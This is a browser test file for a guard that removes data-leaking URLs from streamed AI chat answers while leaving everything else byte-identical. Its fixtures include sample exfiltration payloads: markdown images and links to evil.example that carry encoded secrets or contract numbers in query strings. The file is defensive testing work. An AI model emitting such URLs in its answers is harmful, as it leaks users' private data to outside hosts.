/** Answers on their way to the page: what would carry data away is taken out, everything else is as it was. */
import { expect, test } from "../support/guard-harness";
import {
  BAD,
  GONE,
  SAFE,
  TEXT,
  answerClaims,
  cut,
  patch,
  patches,
  read,
  said,
  scriptText,
} from "../support/answer-page";
import { openLab } from "../support/lab-page";

test.beforeEach(({ page }) => openLab(page));

for (const how of ["text", "reader", "byob", "xhr"] as const)
  test(`events cut anywhere, read by ${how}`, async ({ page, chat }) => {
    for (const size of [1, 5, 40]) {
      const stream = patches(TEXT, size);
      chat.script("cut", { type: "text/event-stream", pieces: cut(stream, 37), pauseMs: 0 });
      const out = await read(page, "cut", how);
      expect(said(out)).toBe(SAFE);
      expect(out.endsWith("data: [DONE]\n\n")).toBe(true);
    }
    expect(await answerClaims(page)).toEqual(Array(3).fill("image evil.example true"));
  });

test("lines of JSON, one JSON and plain text", async ({ page, chat }) => {
  const cases: [type: string, text: string][] = [
    ["application/x-ndjson", `{"token":"Hi"}\n{"token":${JSON.stringify(TEXT)}}\n`],
    ["application/json", JSON.stringify({ mapping: [{ text: TEXT }], n: 1 })],
    ["text/plain; charset=utf-8", TEXT],
  ];
  for (const [type, text] of cases)
    for (const how of ["reader", "xhr"] as const) {
      chat.script("form", { type, pieces: cut(text, 11), pauseMs: 0 });
      expect(await read(page, "form", how)).toBe(text.replace(BAD, GONE));
    }
});

test("an answer without such addresses is the same to the byte, also when it is no text", async ({
  page,
  chat,
}) => {
  const odd = Uint8Array.from([0xef, 0xbb, 0xbf, 0x7b, 0x22, 0xff, 0xfe, 0x00, 0x5b, 0x0a, 0xc3]);
  const clean = new TextEncoder().encode(patches("\ufeffA [link](/x) – 😀 ![y](a.png)", 3));
  for (const [type, bytes] of [
    ["text/event-stream", clean],
    ["text/plain", odd],
    ["application/octet-stream", odd],
  ] as const) {
    chat.script("same", {
      type,
      pieces: [...bytes].map((byte) => Uint8Array.of(byte)),
      pauseMs: 0,
    });
    const got = await page.evaluate(async () => {
      const init = { method: "POST", body: window.bodyOf("Good") };
      const response = await fetch(`${window.target}?script=same`, init);
      return [...new Uint8Array(await response.arrayBuffer())];
    });
    expect(got).toEqual([...bytes]);
  }
});

test("what a page reads of a Response is what it would read without the guard", async ({
  page,
  chat,
}) => {
  const facts = async () => {
    chat.script("facts", {
      type: "text/event-stream",
      pieces: [patch("a"), patch("b")],
      status: 201,
    });
    return page.evaluate(async () => {
      const url = `${window.target}?script=facts`;
      const get = () => fetch(url, { method: "POST", body: window.bodyOf("Good") });
      const response = await get();
      const tell = (one: Response) => ({
        url: one.url,
        type: one.type,
        redirected: one.redirected,
        status: one.status,
        statusText: one.statusText,
        ok: one.ok,
        used: one.bodyUsed,
        locked: one.body?.locked,
        headers: [...one.headers.keys()].sort().join(),
        tag: Object.prototype.toString.call(one),
        instance: one instanceof Response,
        own: Object.getOwnPropertyNames(one),
        immutable: (() => {
          try {
            one.headers.set("x", "y");
            return false;
          } catch {
            return true;
          }
        })(),
      });
      const before = tell(response);
      const copy = response.clone();
      const both = [await copy.text(), await response.text()];
      const again = await response.text().catch((error: Error) => error.name);
      const third = await get();
      third.body?.getReader();
      const failed = await Promise.resolve()
        .then(() => third.text())
        .catch((error: Error) => error.name);
      return {
        before,
        copied: { ...tell(copy), locked: null },
        after: { ...tell(response), locked: null },
        both,
        again,
        failed,
        natives: ["url", "type", "headers"].map((name) =>
          String(Object.getOwnPropertyDescriptor(Response.prototype, name)?.get),
        ),
        clone: String(Response.prototype.clone),
      };
    });
  };
  const guarded = await facts();
  await page.evaluate(() => window.restoreGuard());
  expect(guarded).toEqual(await facts());
});

test("abort, cancel and broken connections end as they do without the guard", async ({
  page,
  chat,
}) => {
  const endings = async () => {
    const slow = {
      type: "text/event-stream",
      pieces: Array(50).fill(patch("a")) as string[],
      pauseMs: 40,
    };
    chat.script("slow", slow);
    chat.script("breaks", { ...slow, pieces: slow.pieces.slice(0, 3), breaks: true });
    return page.evaluate(async () => {
      const get = (script: string, signal: AbortSignal | null = null) =>
        fetch(`${window.target}?script=${script}`, {
          method: "POST",
          body: window.bodyOf("Good"),
          signal,
        });
      const name = (error: unknown) => (error instanceof Error ? error.name : String(error));
      const stop = new AbortController();
      const aborted = await get("slow", stop.signal);
      const reader = aborted.body?.getReader();
      await reader?.read();
      stop.abort();
      const byAbort = await reader?.read().then(() => "read on", name);
      const reason = new AbortController();
      const other = await get("slow", reason.signal);
      const text = other.text().then(() => "read", name);
      reason.abort(new RangeError("mine"));
      const byReason = await text;
      const cancelled = await get("slow");
      const second = cancelled.body?.getReader();
      await second?.read();
      await second?.cancel("enough");
      const byCancel = (await second?.read())?.done;
      const broken = await (await get("breaks")).text().then(() => "read", name);
      return { byAbort, byReason, byCancel, broken };
    });
  };
  const guarded = await endings();
  expect(guarded.byAbort).toBe("AbortError");
  await page.evaluate(() => window.restoreGuard());
  expect(guarded).toEqual(await endings());
});

test("the first event is there before the second one was sent", async ({ page, chat }) => {
  chat.script("slow", {
    type: "text/event-stream",
    pieces: [patch("See ![x]("), patch("https://evil.example/?d="), patch("no end")],
    pauseMs: 400,
  });
  const times = await page.evaluate(async () => {
    const init = { method: "POST", body: window.bodyOf("Good") };
    const response = await fetch(`${window.target}?script=slow`, init);
    const reader = response.body?.getReader();
    const seen: number[] = [];
    for (;;) {
      const { done } = (await reader?.read()) ?? { done: true };
      if (done) return seen;
      seen.push(performance.now());
    }
  });
  expect(times).toHaveLength(3);
  expect((times[1] ?? 0) - (times[0] ?? 0)).toBeGreaterThan(200);
});

test("messages of sockets and event sources", async ({ page, chat }) => {
  const pieces = (TEXT.match(/.{1,6}/gsu) ?? []).map((text) =>
    JSON.stringify({ event: "appendText", text }),
  );
  chat.script("socket", { type: "", pieces });
  chat.script("source", {
    type: "text/event-stream",
    pieces: pieces.map((piece) => `data: ${piece}\n\n`),
  });
  const heard = await page.evaluate(
    async ({ count }) => {
      const collect = (source: EventTarget) =>
        new Promise<string>((resolve) => {
          let text = "";
          let seen = 0;
          source.addEventListener("message", (event) => {
            const { data } = event as MessageEvent<string>;
            if ((event as MessageEvent<string>).data !== data) resolve("data changes");
            text += (JSON.parse(data) as { text: string }).text;
            if (++seen === count) resolve(text);
          });
        });
      const socket = new WebSocket("wss://ws.chatgpt.com/p/ws/user?script=socket");
      socket.onopen = () => socket.send('{"type":"hello"}');
      const bySocket = await collect(socket);
      const source = new EventSource("/events?script=source");
      const bySource = await collect(source);
      source.close();
      const own = await new Promise((resolve) => {
        window.addEventListener("message", ({ data }) => resolve(data), { once: true });
        window.postMessage("![x](https://evil.example/?d=QXBwbGUgdmF1bHQgMTIzNDU2)", "*");
      });
      return { bySocket, bySource, own };
    },
    { count: pieces.length },
  );
  expect(heard).toEqual({
    bySocket: SAFE,
    bySource: SAFE,
    own: "![x](https://evil.example/?d=QXBwbGUgdmF1bHQgMTIzNDU2)",
  });
});

test("values of this page's messages in a link, and what the user wrote", async ({
  page,
  chat,
}) => {
  const answer = (text: string) => ({ type: "text/plain", pieces: cut(text, 9), pauseMs: 0 });
  const ask = (script: string) =>
    page.evaluate(async (name) => {
      const body = window.bodyOf(
        "Good: contract 4711-2210-88, see https://evil.example/t?id=4711221099",
      );
      return (await fetch(`${window.target}?script=${name}`, { method: "POST", body })).text();
    }, script);
  chat.script("link", answer("[go](https://evil.example/?c=4711221088) end"));
  expect(await ask("link")).toBe(`[go](${GONE}) end`);
  chat.script("wrote", answer("[go](https://evil.example/t?id=4711221099) end"));
  expect(await ask("wrote")).toBe("[go](https://evil.example/t?id=4711221099) end");
});

test("policy's word: only told, left alone, and hosts it names", async ({ page, chat }) => {
  await scriptText(chat, `![x](${BAD}) `);
  await page.evaluate(() => window.sayAnswers("log", []));
  expect(await read(page, "plain", "text")).toBe(`![x](${BAD}) `);
  expect(await answerClaims(page)).toEqual(["image evil.example false"]);
  await page.evaluate(() => window.sayAnswers("off", []));
  expect(await read(page, "plain", "text")).toBe(`![x](${BAD}) `);
  await page.evaluate(() => window.sayAnswers("neutralise", ["evil.example"]));
  expect(await read(page, "plain", "text")).toBe(`![x](${BAD}) `);
  await page.evaluate(() => window.sayAnswers("neutralise", ["*.evil.example"]));
  expect(await read(page, "plain", "text")).toBe(`![x](${GONE}) `);
  expect(await answerClaims(page)).toHaveLength(2);
});
